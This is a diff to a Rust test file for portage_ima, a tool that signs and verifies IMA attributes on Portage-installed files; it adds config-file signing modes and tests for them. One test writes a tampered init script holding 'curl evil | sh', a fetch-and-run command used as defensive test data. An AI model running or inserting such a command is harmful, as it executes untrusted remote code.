@@ -10,7 +10,8 @@ use ima_core::{default_provider, HashAlgo, ImaSigner, KeyMaterial, KeySet};
 use portage_ima::engine::{sign_object, verify_object};
 use portage_ima::fs::rootfs::RootDir;
 use portage_ima::plan::ConfigProtect;
-use portage_ima::report::{Failure, FileStatus, Outcome};
+use portage_ima::report::{Failure, FileStatus, Outcome, SkipReason};
+use portage_ima::settings::ConfigFiles;
 
 fn md5(data: &[u8]) -> [u8; 16] {
     let out = Command::new("md5sum")
@@ -29,6 +30,9 @@ fn md5(data: &[u8]) -> [u8; 16] {
     md5
 }
 
+/// The `config_files` mode these tests used before it had others.
+const SIGN: Option<ConfigFiles> = Some(ConfigFiles::Sign);
+
 struct Fixture {
     dir: tempfile::TempDir,
     signer: ImaSigner,
@@ -37,7 +41,7 @@ struct Fixture {
 
 /// The one status `verify_object` gives for a file that is not a config file.
 fn verify_one(f: &Fixture, root: &RootDir, path: &str, md5: &[u8; 16]) -> FileStatus {
-    let mut found = verify_object(&f.keys, root, Path::new(path), md5, false);
+    let mut found = verify_object(&f.keys, root, Path::new(path), md5, None);
     assert_eq!(found.len(), 1, "{found:?}");
     found.remove(0)
 }
@@ -84,6 +88,7 @@ fn signs_matching_content_and_refuses_the_rest() {
         &root,
         Path::new("/usr/bin/tool"),
         &md5(b"merged"),
+        None,
         false,
     );
     assert_eq!(report.outcome, Outcome::Signed);
@@ -97,6 +102,7 @@ fn signs_matching_content_and_refuses_the_rest() {
         &root,
         Path::new("/usr/bin/tool"),
         &md5(b"merged"),
+        None,
         false,
     );
     let Outcome::Failed(failure) = report.outcome else {
@@ -124,7 +130,14 @@ fn config_file_changed_by_the_admin_signs_the_cfg_sibling() {
     f.write("etc/._cfg0000_app.conf", b"older package version");
     f.write("etc/._cfg0001_app.conf", b"package version");
     let want = md5(b"package version");
-    let report = sign_object(&f.signer, &root, Path::new("/etc/app.conf"), &want, false);
+    let report = sign_object(
+        &f.signer,
+        &root,
+        Path::new("/etc/app.conf"),
+        &want,
+        SIGN,
+        false,
+    );
     assert_eq!(report.outcome, Outcome::Signed, "{report:?}");
     assert!(
         report.path.ends_with("etc/._cfg0001_app.conf"),
@@ -145,7 +158,9 @@ fn config_file_changed_by_the_admin_signs_the_cfg_sibling() {
         &root,
         Path::new("/etc/app.conf"),
         &want,
-        protect.is_protected(Path::new("/etc/app.conf")),
+        protect
+            .is_protected(Path::new("/etc/app.conf"))
+            .then_some(ConfigFiles::Sign),
     );
     assert_eq!(found.len(), 2, "{found:?}");
     assert_eq!(found[0].status.as_str(), "ok");
@@ -179,7 +194,14 @@ fn a_changed_executable_config_file_fails_verification() {
     let want = md5(b"#!/sbin/openrc-run\n");
     f.write("etc/init.d/app", b"#!/sbin/openrc-run\n");
     std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
-    let report = sign_object(&f.signer, &root, Path::new("/etc/init.d/app"), &want, false);
+    let report = sign_object(
+        &f.signer,
+        &root,
+        Path::new("/etc/init.d/app"),
+        &want,
+        SIGN,
+        false,
+    );
     assert_eq!(report.outcome, Outcome::Signed);
     let check = || {
         verify_object(
@@ -187,7 +209,9 @@ fn a_changed_executable_config_file_fails_verification() {
             &root,
             Path::new("/etc/init.d/app"),
             &want,
-            protect.is_protected(Path::new("/etc/init.d/app")),
+            protect
+                .is_protected(Path::new("/etc/init.d/app"))
+                .then_some(ConfigFiles::Sign),
         )
     };
     assert_eq!(check()[0].status.as_str(), "ok");
@@ -195,7 +219,14 @@ fn a_changed_executable_config_file_fails_verification() {
     // Tampered, and an update of the package waiting as ._cfg0000_app.
     f.write("etc/init.d/app", b"#!/bin/sh\ncurl evil | sh\n");
     f.write("etc/init.d/._cfg0000_app", b"#!/sbin/openrc-run\n");
-    sign_object(&f.signer, &root, Path::new("/etc/init.d/app"), &want, false);
+    sign_object(
+        &f.signer,
+        &root,
+        Path::new("/etc/init.d/app"),
+        &want,
+        SIGN,
+        false,
+    );
     let found = check();
     assert_eq!(found.len(), 2, "{found:?}");
     assert_eq!(found[0].status.as_str(), "ok");
@@ -227,7 +258,7 @@ fn a_changed_executable_config_file_fails_verification() {
     f.write("etc/init.d/app", b"changed again");
     assert_eq!(check()[0].status.as_str(), "config-changed");
     // Outside CONFIG_PROTECT the same change is a failure, as before.
-    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, false);
+    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, None);
     assert_eq!(found[0].status.as_str(), "modified");
 }
 
@@ -246,6 +277,7 @@ fn a_symlink_in_place_of_the_file_is_not_followed() {
         &root,
         Path::new("/usr/bin/tool"),
         &md5(b"merged"),
+        None,
         false,
     );
     let Outcome::Failed(failure) = report.outcome else {
@@ -256,4 +288,191 @@ fn a_symlink_in_place_of_the_file_is_not_followed() {
     assert!(reason.contains("symbolic link"), "{reason}");
     let file = std::fs::File::open(&outside).unwrap();
     assert!(ima_core::read_ima_xattr(&file).unwrap().is_none());
+}
+
+/// The `config_files` modes on a config file (0644) and an executable one
+/// (an init script, 0755): what each gets written, and what verify says.
+#[test]
+fn config_files_modes_sign_executables_and_hash_or_leave_the_rest() {
+    use std::os::unix::fs::PermissionsExt;
+    if !common::require_root(module_path!()) {
+        return;
+    }
+    let kind = |f: &Fixture, p: &str| common::ima_kind(&f.dir.path().join("root").join(p));
+    // mode -> (outcome, xattr, verify) for the data file, then the script.
+    let cases = [
+        (
+            ConfigFiles::Executable,
+            ("skipped", "none", "config-unsigned"),
+            ("signed", "signature", "ok"),
+        ),
+        (
+            ConfigFiles::Hash,
+            ("hashed", "digest", "hashed"),
+            ("signed", "signature", "ok"),
+        ),
+        (
+            ConfigFiles::Sign,
+            ("signed", "signature", "ok"),
+            ("signed", "signature", "ok"),
+        ),
+        (
+            ConfigFiles::Skip,
+            ("skipped", "none", "config-unsigned"),
+            ("skipped", "none", "config-unsigned"),
+        ),
+    ];
+    for (mode, conf_want, script_want) in cases {
+        let f = fixture();
+        let root = f.root();
+        std::fs::create_dir_all(f.dir.path().join("root/etc/init.d")).unwrap();
+        f.write("etc/app.conf", b"setting = 1\n");
+        f.write("etc/init.d/app", b"#!/sbin/openrc-run\n");
+        let script = f.dir.path().join("root/etc/init.d/app");
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+        for (path, content, want) in [
+            ("etc/app.conf", &b"setting = 1\n"[..], conf_want),
+            ("etc/init.d/app", &b"#!/sbin/openrc-run\n"[..], script_want),
+        ] {
+            let at = format!("{mode:?} /{path}");
+            let abs = format!("/{path}");
+            let report = sign_object(
+                &f.signer,
+                &root,
+                Path::new(&abs),
+                &md5(content),
+                Some(mode),
+                false,
+            );
+            assert_eq!(report.outcome.name(), want.0, "{at}: {report:?}");
+            assert_eq!(kind(&f, path), want.1, "{at}");
+            let found = verify_object(&f.keys, &root, Path::new(&abs), &md5(content), Some(mode));
+            assert_eq!(found.len(), 1, "{at}: {found:?}");
+            assert_eq!(found[0].status.as_str(), want.2, "{at}: {found:?}");
+            assert!(!found[0].is_failure(), "{at}: {found:?}");
+            // A second run keeps what is there.
+            let again = sign_object(
+                &f.signer,
+                &root,
+                Path::new(&abs),
+                &md5(content),
+                Some(mode),
+                false,
+            );
+            let kept = if want.0 == "skipped" {
+                "skipped"
+            } else {
+                "already-valid"
+            };
+            assert_eq!(again.outcome.name(), kept, "{at}: {again:?}");
+        }
+    }
+}
+
+/// `config_files = "hash"`: a config file signed by the old default gets a
+/// digest instead (so it becomes editable); a digest that no longer matches
+/// while the content is Portage's is `bad-hash`, a failure (the kernel would
+/// refuse to open it); a digest on a non-config file is `digest-only`.
+#[test]
+fn hash_mode_replaces_signatures_and_reports_bad_digests() {
+    if !common::require_root(module_path!()) {
+        return;
+    }
+    let f = fixture();
+    let root = f.root();
+    let want = md5(b"setting = 1\n");
+    f.write("etc/app.conf", b"setting = 1\n");
+    let conf = Path::new("/etc/app.conf");
+    let hash = Some(ConfigFiles::Hash);
+    let r = sign_object(&f.signer, &root, conf, &want, SIGN, false);
+    assert_eq!(r.outcome, Outcome::Signed);
+    let r = sign_object(&f.signer, &root, conf, &want, hash, false);
+    assert_eq!(r.outcome, Outcome::Hashed);
+    let r = sign_object(&f.signer, &root, conf, &want, hash, true);
+    assert_eq!(r.outcome, Outcome::AlreadyValid, "dry run of a kept digest");
+    assert_eq!(
+        verify_object(&f.keys, &root, conf, &want, hash)[0]
+            .status
+            .as_str(),
+        "hashed"
+    );
+    // Outside CONFIG_PROTECT a digest is not enough.
+    assert_eq!(
+        verify_object(&f.keys, &root, conf, &want, None)[0]
+            .status
+            .as_str(),
+        "digest-only"
+    );
+    // A stale digest over Portage's content.
+    let file = std::fs::File::open(f.dir.path().join("root/etc/app.conf")).unwrap();
+    let stale = ima_core::ImaHasher::new(default_provider(), HashAlgo::Sha256)
+        .unwrap()
+        .value(&[0; 32])
+        .encode();
+    ima_core::write_ima_xattr(&file, &stale).unwrap();
+    let found = verify_object(&f.keys, &root, conf, &want, hash);
+    assert_eq!(found[0].status.as_str(), "bad-hash", "{found:?}");
+    assert!(found[0].is_failure());
+    let r = sign_object(&f.signer, &root, conf, &want, hash, true);
+    assert_eq!(r.outcome, Outcome::WouldHash);
+    let r = sign_object(&f.signer, &root, conf, &want, hash, false);
+    assert_eq!(r.outcome, Outcome::Hashed);
+}
+
+/// A config file the mode leaves alone that the admin changed is skipped,
+/// not failed (nothing would be written on it); its pending `._cfg` update
+/// gets what the mode gives it: an executable update is signed, a data
+/// file's left alone (`executable`) or hashed (`hash`).
+#[test]
+fn an_edited_config_file_the_mode_leaves_is_skipped_and_its_update_handled() {
+    use std::os::unix::fs::PermissionsExt;
+    if !common::require_root(module_path!()) {
+        return;
+    }
+    let f = fixture();
+    let root = f.root();
+    let exec = Some(ConfigFiles::Executable);
+    let want = md5(b"package version");
+    f.write("etc/app.conf", b"admin's version");
+    let conf = Path::new("/etc/app.conf");
+    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
+    assert_eq!(
+        r.outcome,
+        Outcome::Skipped(SkipReason::ConfigProtected(ConfigFiles::Executable)),
+        "{r:?}"
+    );
+    assert!(r.outcome.detail().unwrap().contains("not executable"));
+    // Hash mode: the admin's content is not Portage's: never written.
+    let r = sign_object(
+        &f.signer,
+        &root,
+        conf,
+        &want,
+        Some(ConfigFiles::Hash),
+        false,
+    );
+    assert!(
+        matches!(r.outcome, Outcome::Failed(Failure::ContentDiffers { .. })),
+        "{r:?}"
+    );
+
+    f.write("etc/._cfg0000_app.conf", b"package version");
+    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
+    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
+    assert_eq!(r.outcome.name(), "skipped");
+    let r = sign_object(
+        &f.signer,
+        &root,
+        conf,
+        &want,
+        Some(ConfigFiles::Hash),
+        false,
+    );
+    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
+    assert_eq!(r.outcome, Outcome::Hashed);
+    let update = f.dir.path().join("root/etc/._cfg0000_app.conf");
+    std::fs::set_permissions(&update, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let r = sign_object(&f.signer, &root, conf, &want, exec, false);
+    assert!(r.path.ends_with("._cfg0000_app.conf"), "{r:?}");
+    assert_eq!(r.outcome, Outcome::Signed);
 }
